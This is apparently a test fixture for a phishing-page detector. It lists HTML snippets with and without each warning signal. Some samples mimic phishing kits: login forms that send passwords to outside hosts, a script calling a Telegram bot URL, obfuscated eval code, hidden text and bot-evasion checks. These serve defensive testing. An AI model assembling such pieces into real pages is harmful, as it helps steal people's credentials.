import type { PageFeatureName } from '#src/engine/analyzers/page.ts';

/** A form that asks for a password, and sends it to its own site. */
export const LOGIN =
  '<form method=post action=/session><input name=u><input type=password name=p><button>Sign in</button></form>';

const NAV = Array.from({ length: 6 }, (_, i) => `<a href=/page-${i}>Page ${i}</a>`).join(' ');

/** A page with each signal, and the same page without it. */
export const SIGNAL_PAGES: readonly (readonly [PageFeatureName, string, string])[] = [
  [
    'page.asks_as_foreign_brand',
    `<title>Log in to Paywell</title>${LOGIN}<p>© 2026 Paywell Inc.`,
    `<title>Paywell</title><p>© 2026 Paywell Inc.`,
  ],
  [
    'page.foreign_brand',
    '<title>Paywell</title><form><input type=email name=e><button>Next</button></form>© Paywell',
    '<title>Mail</title><form><input type=email name=e><button>Next</button></form>',
  ],
  ['page.posts_to_other_site', LOGIN.replace('/session', 'https://collect.test/in'), LOGIN],
  ['page.posts_unencrypted', LOGIN.replace('/session', 'http://some-host.test/in'), LOGIN],
  ['page.posts_to_form_service', LOGIN.replace('/session', 'https://formspree.io/f/abc'), LOGIN],
  [
    'page.posts_to_bot',
    `${LOGIN}<script>fetch("https://api.telegram.org/bot12:AB/sendMessage", {})</script>`,
    `${LOGIN}<a href="https://t.me/our_channel">Telegram</a>`,
  ],
  ['page.posts_to_kit_script', LOGIN.replace('/session', 'next.php'), LOGIN.replace('/session', '/account/login.php')],
  [
    'page.saved_copy',
    `<!-- saved from url=(0028)https://login.paywell.example/x -->${LOGIN}`,
    `<!-- saved from url=(0028)https://some-host.test/old -->${LOGIN}`,
  ],
  ['page.saved_folder', `<img src="./Log in_files/logo.png">${LOGIN}`, `<img src="/files/logo.png">${LOGIN}`],
  [
    'page.belongs_elsewhere',
    `<link rel=canonical href=https://other-bank.test/login>${LOGIN}`,
    `<link rel=canonical href=https://some-host.test/login>${LOGIN}`,
  ],
  [
    'page.links_to_one_other_site',
    `${NAV.replaceAll('href=/', 'href=https://other-bank.test/')}${LOGIN}`,
    `${NAV}${LOGIN}`,
  ],
  [
    'page.dead_links',
    `${LOGIN}<a href=#>Help</a><a href=#>Terms</a><a href=javascript:;>Privacy</a>`,
    `${LOGIN}${NAV}`,
  ],
  ['page.names_nobody', LOGIN, `<h1>Some-Host</h1>${LOGIN}`],
  [
    'page.nameless_title',
    `<title>Sign in to your account</title>${LOGIN}`,
    `<title>Sign in to Some-Host</title>${LOGIN}`,
  ],
  ['page.bare_login', LOGIN, `${LOGIN}<p>${'A long text about what this is. '.repeat(20)}`],
  [
    'page.fields_over_picture',
    '<img src=bg.png><form action=/s><input type=password style="position: absolute; top: 9px"></form>',
    '<img src=bg.png><form action=/s><input type=password></form>',
  ],
  ['page.many_password_forms', LOGIN.repeat(4), LOGIN.repeat(2)],
  [
    'page.mail_provider_choice',
    `<p>Choose: Gmail, Outlook, Yahoo, <img src=4.png alt=AOL><img src=5.png alt="Other mail">${LOGIN}`,
    `<p>Write to our Gmail or Outlook address${LOGIN}`,
  ],
  [
    'page.preset_email',
    LOGIN.replace('name=u', 'name=u value=anna@corp.test'),
    LOGIN.replace('name=u', 'name=u value=anna'),
  ],
  [
    'page.asks_seed_phrase',
    '<textarea placeholder="Enter your 12-word recovery phrase"></textarea>',
    '<textarea placeholder=Comment>',
  ],
  [
    'page.asks_many_secrets',
    '<form><input name=card_number><input name=cvv><input name=ssn><input type=password></form>',
    '<form><input name=card_number><input name=cvv></form>',
  ],
  ['page.frames_other_site', '<iframe src=https://other-bank.test/login></iframe>', '<iframe src=/inner></iframe>'],
  [
    'page.spelled_title',
    `<title>&#83;&#105;&#103;&#110; &#73;&#110;</title>${LOGIN}`,
    `<title>Sign In &#169; M&#252;ller</title>${LOGIN}`,
  ],
  ['page.spelled_text', `<p>${'&#65;&#66;&#67;&#68;'.repeat(12)}`, `<p>${'ABCD'.repeat(12)}`],
  [
    'page.encoded_markup',
    '<script>document.write(unescape("%3Cform%3E%3Cinput%20type%3Dpassword%3E"))</script>',
    '<script>document.write("<form><input type=password>")</script>',
  ],
  [
    'page.obfuscated_script',
    `${LOGIN}<script>eval(function(p,a,c,k,e,d){return p}("0",1,1,[]))</script>`,
    `${LOGIN}<script>function a(p){return p}</script>`,
  ],
  ['page.blocks_inspection', `<body oncontextmenu="return false">${LOGIN}`, `<body>${LOGIN}`],
  [
    'page.looks_for_bots',
    `${LOGIN}<script>if (navigator.webdriver) location = "/"</script>`,
    `${LOGIN}<script>start()</script>`,
  ],
  [
    'page.hidden_text',
    `${LOGIN}<div style="display:none">${'other words '.repeat(60)}</div>`,
    `${LOGIN}<div>${'other words '.repeat(60)}</div>`,
  ],
  [
    'page.look_alike_words',
    `<title>Document Validati0n</title>${LOGIN}`,
    `<title>Document Validation 2026 v10</title>${LOGIN}`,
  ],
  ['page.urgency', `<h1>Your account has been suspended</h1>${LOGIN}`, `<h1>Your account</h1>${LOGIN}`],
  ['page.not_seen_whole', `<p>${'long '.repeat(450_000)}`, `<p>${'long '.repeat(1000)}`],
  [
    'page.too_little_read',
    `<form><input type=search></form><!--${'pad '.repeat(600_000)}-->${LOGIN}`,
    `<form><input name=name></form><!--${'pad '.repeat(600_000)}-->${LOGIN}`,
  ],
  [
    'page.drawn_by_script',
    '<div id=root></div><script src=/app.js></script>',
    `<p>${'Content. '.repeat(30)}<script src=/app.js></script>`,
  ],
  [
    'page.unread_frame',
    '<iframe src=/login style="position:fixed;inset:0"></iframe>',
    '<iframe src=/login hidden></iframe>',
  ],
  ['page.unread_picture', '<p>Scan me</p><img src=/code.png>', `<p>${'Content. '.repeat(30)}<img src=/code.png>`],
  ['page.padded', `<!--${'pad '.repeat(600_000)}-->${LOGIN}`, `<!--${'pad '.repeat(400_000)}-->${LOGIN}`],
  ['page.at_home', '<a href=/one>1</a><a href=/two>2</a>', '<a href=/one>1</a><a href=/one#top>2</a>'],
  ['page.kit_mark', '<title>Leaf PHPMailer</title>', '<title>Leaf of paper</title>'],
];
